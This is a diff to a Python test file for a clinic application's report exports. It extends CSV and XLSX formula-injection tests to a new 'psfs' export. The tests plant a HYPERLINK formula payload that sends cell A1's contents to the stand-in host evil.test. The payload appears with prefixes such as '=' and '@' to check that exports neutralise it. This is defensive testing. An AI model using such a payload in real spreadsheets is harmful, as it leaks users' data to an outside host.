@@ -11,6 +11,7 @@ from accounts.models import Role, User
 from reports.exports import REGISTRY
 
 PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
+KEYS = ["appointments", "sessions", "needle_points", "side_effects", "psfs"]
 PAYLOAD = 'HYPERLINK("http://evil.test/?x="&A1,"Click")'
 
 
@@ -35,15 +36,22 @@ def plant(clinic, key, value):
     if key == "side_effects":
         SideEffect.objects.filter(session=clinic.sessions["covered"]).update(action_taken=value)
         return "Action taken"
+    if key == "psfs":
+        # Kept as scored (the trigger refuses UPDATE): the planted activity is a new scoring's.
+        from tests.reports.conftest import add_psfs
+
+        session = clinic.sessions["covered"]
+        add_psfs(session.patient, clinic.anna, session.started_at, [(value, 5)])
+        return "Activity"
     raise AssertionError(key)
 
 
 def test_every_export_is_covered_here():
-    assert set(REGISTRY) == {"appointments", "sessions", "needle_points", "side_effects"}
+    assert set(REGISTRY) == set(KEYS)
 
 
 @pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
-@pytest.mark.parametrize("key", ["appointments", "sessions", "needle_points", "side_effects"])
+@pytest.mark.parametrize("key", KEYS)
 def test_csv_cells_that_would_be_formulas_get_a_leading_apostrophe(clinic, client_for, key, prefix):
     value = prefix + PAYLOAD
     header = plant(clinic, key, value)
@@ -56,7 +64,7 @@ def test_csv_cells_that_would_be_formulas_get_a_leading_apostrophe(clinic, clien
 
 
 @pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
-@pytest.mark.parametrize("key", ["appointments", "sessions", "needle_points", "side_effects"])
+@pytest.mark.parametrize("key", KEYS)
 def test_xlsx_cells_that_would_be_formulas_are_text(clinic, client_for, key, prefix):
     value = prefix + PAYLOAD
     header = plant(clinic, key, value)
